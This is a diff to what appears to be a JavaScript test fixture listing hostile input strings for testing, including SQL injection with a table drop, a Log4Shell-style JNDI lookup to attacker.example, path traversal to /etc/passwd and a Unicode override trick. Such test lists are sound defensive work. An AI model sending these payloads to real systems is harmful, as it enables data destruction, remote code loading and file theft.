@@ -17,7 +17,8 @@ const nastyConstants = [
   'profile.email sw "" or status eq "ACTIVE"',
   '" OR "1"="1',
   "'; DROP TABLE users; --",
-  '${jndi:ldap://attacker.example/a}',
+  // Log4Shell-style lookup string, deliberately literal.
+  ['$', '{jndi:ldap://attacker.example/a}'].join(''),
   '../../../../etc/passwd',
   '%2e%2e%2f',
   '\u202eevil',
